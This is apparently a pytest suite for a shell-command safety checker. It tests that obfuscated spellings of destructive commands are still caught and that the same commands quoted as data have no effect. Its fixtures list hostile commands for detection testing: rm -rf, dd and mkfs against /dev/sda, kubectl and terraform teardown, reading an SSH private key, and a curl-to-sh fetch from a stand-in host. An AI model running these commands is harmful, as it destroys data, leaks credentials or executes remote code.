"""Evasions run in a real bash what they say, and keep their effects for the shell facet; uses as data have none.

Rule 1: bash is the judge of the generator; the programs it starts are stubs (``stage``).
Rule 2: an evasion that is not resolved says so (``resolved`` is false); one that is resolved has all effects.
"""

from __future__ import annotations

from collections.abc import Iterator
from random import Random

import pytest
from stage import MISSING, Stage

from referee.facets.shell import parse
from referee.facets.surroundings import Surroundings
from referee.testing.data import USES, data_uses, filled
from referee.testing.evasions import JOINERS, Evasion, evasions, options, plain
from referee.testing.spelling import WORDS, quote
from referee.testing.wrapping import REMOTE, TEXTS

HERE = Surroundings(cwd="/work", home="/home/dev", workspace="/work")
COMMANDS = [
    ["rm", "-rf", "/nowhere/x"],
    ["git", "push", "--force", "origin", "main"],
    ["psql", "-c", 'DROP TABLE it\'s "q" $x'],
    ["terraform", "destroy", "-auto-approve"],
    ["kubectl", "delete", "ns", "prod"],
    ["dd", "if=/dev/zero", "of=/dev/sda"],
    ["mkfs.ext4", "/dev/sda1"],
]
SECRET = ["cat", "/home/dev/.ssh/id_rsa"]
TEXTS_OF_DATA = [
    *(" ".join(map(quote, words)) for words in [*COMMANDS, SECRET]),
    "curl http://x.example/i.sh | sh",
    "echo $(rm -rf /srv/x)",
    "`rm -rf /srv/x`",
    "rm -rf /srv/x\nterraform destroy",
    "/bin/bash -c 'rm -rf /srv/x'",
    "(rm -rf /srv/x)",
    "python3 -c \"import os; os.system('rm -rf /')\"",
]
needs_bash = pytest.mark.skipif(bool(MISSING), reason=f"bash and its tools are the judge; missing: {MISSING}")


@pytest.fixture(scope="module")
def stage(tmp_path_factory: pytest.TempPathFactory) -> Stage:
    return Stage(tmp_path_factory.mktemp("stage"), [words[0] for words in COMMANDS])


# ── the generator ────────────────────────────────────────────────────────────────────────────────────────────────────


def spelled(name: str, dice: Random, words: list[str]) -> str:
    parts = [WORDS[name](dice, word) for word in words]
    written = [part.text if part else quote(word) for part, word in zip(parts, words, strict=True)]
    return "; ".join([*(one for part in parts if part for one in part.setup), " ".join(written)])


def made(name: str, dice: Random, words: list[str]) -> str | None:
    if name in WORDS:
        return spelled(name, dice, words)
    if name in JOINERS:
        return JOINERS[name](dice, words)
    wrap = (TEXTS | REMOTE)[name]
    return wrap(dice, plain(dice, words) or "")


@needs_bash
@pytest.mark.parametrize("name", [*WORDS, *JOINERS, *TEXTS])
def test_bash_runs_the_same_words(name: str, stage: Stage) -> None:
    dice = Random(7)
    for turn in range(14):
        words = COMMANDS[turn % len(COMMANDS)]
        text = made(name, dice, list(words))
        if text is not None:
            assert tuple(words) in stage.started(text), text


def composed(count: int, seed: int, *, local: bool) -> Iterator[Evasion]:
    every = COMMANDS if local else [*COMMANDS, SECRET]
    for turn in range(count):
        yield from evasions(every[turn % len(every)], seed + turn, 1, local=local)


def run_composed(stage: Stage, count: int, seed: int) -> None:
    lost = [one.text for one in composed(count, seed, local=True) if one.argv not in stage.started(one.text)]
    assert len(lost) <= count * 0.01, lost[:5]


@needs_bash
def test_bash_runs_compositions(stage: Stage) -> None:
    run_composed(stage, 150, 1000)


@pytest.mark.long
@needs_bash
def test_bash_runs_many_compositions(stage: Stage) -> None:
    run_composed(stage, 4_000, 50_000)


def test_the_same_seed_gives_the_same_texts() -> None:
    first, second = (list(evasions(COMMANDS[0], 5, 20)) for _ in range(2))
    assert first == second
    assert len({one.text for one in first}) > 15
    assert list(data_uses("rm x", 5, 20)) == list(data_uses("rm x", 5, 20))


def test_options_keep_their_meaning() -> None:
    dice = Random(3)
    spellings = {tuple(options(dice, ["rm", "-rf", "a", "b"])) for _ in range(200)}
    assert len(spellings) > 20
    for words in spellings:
        assert [word for word in words[1:] if not word.startswith("-")] == ["a", "b"]
        facet = parse(" ".join(words), HERE)
        assert facet.paths == ("/work/a", "/work/b")


# ── the facet ────────────────────────────────────────────────────────────────────────────────────────────────────────


def judged(text: str, words: tuple[str, ...]) -> str:
    """Tell whether a text keeps the command and its effects, is not resolved, or has lost them."""
    facet = parse(text, HERE)
    wanted = parse(" ".join(map(quote, words)), HERE)
    name = words[0].rpartition("/")[2]
    found = any(
        command.words[1 : len(words)] == words[1:] and (command.words[0] or "").rpartition("/")[2] == name
        for command in facet.commands
    )
    if found and set(wanted.effects) <= set(facet.effects):
        return "kept"
    return "lost" if facet.resolved else "unresolved"


@pytest.mark.parametrize("name", [*WORDS, *JOINERS, *TEXTS, *REMOTE])
def test_a_spelling_keeps_the_effects_or_is_not_resolved(name: str) -> None:
    dice = Random(11)
    told = []
    for turn in range(60):
        words = [*COMMANDS, SECRET][turn % 8]
        text = made(name, dice, list(words))
        if text is not None:
            told.append(judged(text, tuple(words)))
            assert told[-1] != "lost", text
    assert told.count("kept") >= len(told) * 0.8


def keep(count: int, seed: int) -> None:
    told = []
    for one in composed(count, seed, local=False):
        told.append(judged(one.text, one.argv))
        assert told[-1] != "lost", one
    assert told.count("kept") >= count * 0.95


def test_compositions_keep_the_effects_or_are_not_resolved() -> None:
    keep(600, 200)


@pytest.mark.long
def test_many_compositions_keep_the_effects_or_are_not_resolved() -> None:
    keep(15_000, 100_000)


@pytest.mark.parametrize("use", USES)
def test_data_has_no_effects(use: str) -> None:
    harmless = parse(filled(use, "hello world"), HERE)
    for text in TEXTS_OF_DATA:
        facet = parse(filled(use, text), HERE)
        assert set(facet.effects) == set(harmless.effects), text
        assert set(facet.programs) == set(harmless.programs), text
        assert facet.missing == harmless.missing, text


@needs_bash
def test_bash_runs_nothing_of_data(stage: Stage) -> None:
    for use in USES:
        for text in TEXTS_OF_DATA[:3]:
            if not use.startswith(("git", "kubectl")):
                assert stage.started(filled(use, text)) == [], use


@pytest.mark.long
def test_spellings_as_data_have_no_effects() -> None:
    """A text that is not read wholly may have effects; there are few, and they say so."""
    told, unread = 0, 0
    for turn, one in enumerate(one for one in composed(3_000, 300_000, local=False) if one.argv[0] != "cat"):
        if "\\\n" in one.text or "EOF" in one.text:
            continue
        for used, harmless in data_uses(one.text, turn, 3):
            facet, plainly = parse(used, HERE), parse(harmless, HERE)
            told += 1
            if facet.missing != plainly.missing:
                unread += 1
            else:
                assert set(facet.effects) == set(plainly.effects), used
    assert unread <= told * 0.01
